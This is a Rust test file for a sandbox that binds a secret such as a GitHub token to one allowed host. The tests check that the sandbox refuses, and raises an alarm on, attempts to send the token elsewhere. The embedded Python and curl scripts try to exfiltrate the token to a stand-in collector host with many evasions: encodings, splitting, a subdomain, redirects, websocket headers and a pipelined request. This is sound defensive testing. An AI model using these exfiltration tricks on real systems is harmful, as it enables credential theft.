//! Secrets that must not leave: by another host, in another shape, through another sandbox.
//!
//! The open subject hands the value in, as programs get it everywhere else: there it escapes.

use gig_audit::Event;
use gig_policy::DenyReason;
use gig_tests::lab::{
    Finished, Lab, Subject,
    denial::Refusal,
    http_origin::{HttpOrigin, Request, greet},
};

const BOUND: &str = "api.example.com";
const OTHER: &str = "collector.example.net";
const VALUE: &str = "real-value-7Qx2mZ0pLr";

/// Both hosts are allowed; the secret is bound to one.
fn subject(lab: &Lab) -> Subject<'_> {
    let subject = lab.gig().allow(BOUND).allow(OTHER);
    let subject = subject.host_env("GITHUB_TOKEN", VALUE);
    subject.option(["--secret", "GITHUB_TOKEN@api.example.com"])
}

/// The client was told, the other origin saw not an octet, the record has the alarm.
fn check(other: &HttpOrigin, run: &Finished) {
    check_each(other, run, 1);
}

/// The same of so many requests.
fn check_each(other: &HttpOrigin, run: &Finished, asked: usize) {
    Refusal::new(DenyReason::SecretMisuse)
        // The request, and the alarm.
        .times(2 * asked)
        .unseen_by(other)
        .client(|run| run.text().matches("403").count() == asked)
        .check(run);
    alarmed(run);
}

fn alarmed(run: &Finished) {
    if !run.open {
        let mut alarms = run.audit.of(Event::SecretMisuse);
        let named = |name: &std::sync::Arc<str>| &**name == "GITHUB_TOKEN";
        assert!(alarms.any(|entry| entry.secrets.iter().any(named)), "{run}");
        assert!(run.error_text().contains("ALARM: secret misuse"), "{run}");
    }
}

/// Asks the other host so many times, with the secret where `place` puts it.
fn towards_the_other(asked: usize, place: &str) -> Finished {
    let lab = Lab::new();
    let other = lab.https(OTHER, greet);
    let script = format!(
        "import os, base64, urllib.request, urllib.parse, urllib.error\n\
         t = os.environ['GITHUB_TOKEN']\n\
         def ask(path='/', headers={{}}, data=None):\n \
          r = urllib.request.Request('https://{OTHER}' + path, headers=headers, data=data)\n \
          try: print(urllib.request.urlopen(r, timeout=60).status)\n \
          except urllib.error.HTTPError as e: print(e.code)\n\
         {place}\n"
    );
    let run = subject(&lab).python(&script);
    check_each(&other, &run, asked);
    // The script came to its end, with an answer to each.
    let run = run.success();
    assert_eq!(run.text().lines().count(), asked, "{run}");
    run
}

#[test]
fn a_bearer_token_for_another_host_stays() {
    let _run = towards_the_other(1, "ask(headers={'Authorization': 'Bearer ' + t})");
}

#[test]
fn a_token_in_other_clothes_stays() {
    let _run = towards_the_other(
        7,
        "ask(headers={'X-Api-Key': t.upper()})\n\
         ask(headers={'X-Api-Key': t[::-1]})\n\
         ask(headers={'X-Api-Key': t.encode().hex()})\n\
         ask(headers={'X-Api-Key': base64.b64encode(b'xy' + t.encode()).decode()})\n\
         ask(headers={'X-Api-Key': base64.urlsafe_b64encode(b'x' + t.encode()).decode()})\n\
         ask(headers={'X-Api-Key': ''.join('\\\\u%04x' % ord(c) for c in t)})\n\
         ask(headers={'X-Api-Key': ''.join('&#%d;' % ord(c) for c in t)})",
    );
}

#[test]
fn a_token_in_pieces_stays() {
    let _run = towards_the_other(
        4,
        "ask(headers={'Cookie': 'a=%s; b=%s' % (t[:9], t[9:])})\n\
         ask('/?one=%s&two=%s' % (t[:9], t[9:]))\n\
         ask(data=('one=%s&two=%s' % (t[:9], t[9:])).encode())\n\
         ask(data=urllib.parse.urlencode({'a': ' '.join(t[:9]), 'b': t[9:]}).encode())",
    );
}

#[test]
fn a_value_in_pieces_of_a_body_or_in_wide_letters_stays() {
    // Whoever knows the value by another way does not send it on either.
    let _run = towards_the_other(
        7,
        "import json\n\
         v = ''.join(['real-value-7Q', 'x2mZ0pLr'])\n\
         a, b = v[:9], v[9:]\n\
         def send(kind, data): ask(headers={'Content-Type': kind}, data=data)\n\
         send('application/json', json.dumps({'a': a, 'more': {'b': [b]}}).encode())\n\
         send('application/json', json.dumps(list(v)).encode())\n\
         send('application/json', json.dumps({a: 1, b: 2}).encode())\n\
         part = '--cut\\r\\nContent-Disposition: form-data; name=\"f%d\"\\r\\n\\r\\n%s\\r\\n'\n\
         parts = ''.join(part % p for p in enumerate([a, b])) + '--cut--\\r\\n'\n\
         send('multipart/form-data; boundary=cut', parts.encode())\n\
         send('text/plain; charset=utf-16', ('<' + v + '>').encode('utf-16'))\n\
         send('text/plain; charset=utf-16be', ('<' + v + '>').encode('utf-16-be'))\n\
         send('application/octet-stream', v.encode('utf-32'))",
    );
}

#[test]
fn a_token_in_the_target_stays() {
    let _run = towards_the_other(
        4,
        "ask('/collect/' + t)\n\
         ask('/?q=' + t)\n\
         ask('/?q=' + ''.join('%%%02x' % ord(c) for c in t))\n\
         ask('/?q=' + ''.join('%%25%02X' % ord(c) for c in t))",
    );
}

#[test]
fn a_token_in_basic_credentials_and_forms_stays() {
    let _run = towards_the_other(
        2,
        "ask(headers={'Authorization': 'Basic ' + base64.b64encode(b'u:' + t.encode()).decode()})\n\
         ask(data=urllib.parse.urlencode({'client_secret': t}).encode())",
    );
}

#[test]
fn a_redirect_does_not_carry_a_token_on() {
    let lab = Lab::new();
    let _bound = lab.https(BOUND, |_, exchange| {
        exchange.send(format!(
            "HTTP/1.1 302 Found\r\nlocation: https://{OTHER}/\r\ncontent-length: 0\r\n\r\n"
        ))
    });
    let other = lab.https(OTHER, greet);
    let run = subject(&lab).sh(
        "curl -sS -m 60 -i -L --location-trusted -H \"X-Key: $GITHUB_TOKEN\" \
         https://api.example.com/",
    );
    check(&other, &run);
}

#[test]
fn a_second_request_on_a_connection_is_looked_at_like_the_first() {
    let lab = Lab::new();
    let other = lab.http(OTHER, |request, exchange| {
        greet(request, exchange)?;
        if request.target == "/two" {
            return Err(std::io::ErrorKind::ConnectionAborted.into());
        }
        Ok(())
    });
    let script = format!(
        "import os, socket\n\
         t = os.environ['GITHUB_TOKEN']\n\
         s = socket.create_connection(('{OTHER}', 80), timeout=60)\n\
         one = 'GET / HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n'\n\
         two = 'GET /two HTTP/1.1\\r\\nHost: {OTHER}\\r\\nX-Key: ' + t + '\\r\\nConnection: close\\r\\n\\r\\n'\n\
         s.sendall((one + two).encode())\n\
         b = b''\n\
         while True:\n c = s.recv(65536)\n if not c: break\n b += c\n\
         print(b.decode())\n"
    );
    // The open proxy is no transparent one: there the script dials by itself, outside.
    let run = subject(&lab).python(&script);
    let second = |request: &Request| request.target == "/two";
    Refusal::new(DenyReason::SecretMisuse)
        .times(2)
        .origin_never_sees("the second request", || other.requests().iter().any(second))
        .client_says("403")
        .check(&run);
    alarmed(&run);
}

#[test]
fn a_token_is_no_part_of_a_host_name() {
    let lab = Lab::new();
    let name = format!("{VALUE}.{OTHER}").to_lowercase();
    let other = lab.https(&name, greet);
    let run = lab
        .gig()
        .allow("*.collector.example.net")
        .host_env("GITHUB_TOKEN", VALUE)
        .option(["--secret", "GITHUB_TOKEN@api.example.com"])
        .sh(
            "curl -sSk -m 60 -i https://$(echo $GITHUB_TOKEN | tr A-Z a-z).collector.example.net/ \
             || echo refused",
        );
    Refusal::new(DenyReason::SecretMisuse)
        // As a connection and as a request, and an alarm of each.
        .times(4)
        .unseen_by(&other)
        .client(|run| run.text().contains("403") || run.text().contains("refused"))
        .check(&run);
    alarmed(&run);
}

#[test]
fn a_handshake_of_a_websocket_carries_no_token_elsewhere() {
    let lab = Lab::new();
    let other = lab.https(OTHER, greet);
    let run = subject(&lab).sh(
        "curl -sS -m 60 -i --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' \
         -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' \
         -H \"Sec-WebSocket-Protocol: bearer.$GITHUB_TOKEN\" https://collector.example.net/",
    );
    check(&other, &run);
}

#[test]
fn what_another_sandbox_holds_stands_for_nothing() {
    let lab = Lab::new();
    let bound = lab.https(BOUND, greet);
    // It stands for the value in the sandbox that holds it.
    let own =
        "echo $GITHUB_TOKEN; curl -sS -m 60 -H \"X-Key: $GITHUB_TOKEN\" https://api.example.com/";
    let first = subject(&lab).sh(own);
    let theirs = first.text().lines().next().unwrap_or_default().to_owned();
    let header = format!("X-Key: {theirs}");
    let run = subject(&lab).run([
        "curl",
        "-sS",
        "-m",
        "60",
        "-H",
        &header,
        "https://api.example.com/",
    ]);
    let seen = bound.requests();
    let keys: Vec<_> = seen.iter().map(|one| one.field("x-key")).collect();
    assert_ne!(
        keys.last(),
        Some(&Some(VALUE)),
        "ESCAPED: another sandbox's sentinel was swapped; {run}"
    );
    assert_eq!(keys, [Some(VALUE), Some(&theirs)], "{run}");
}
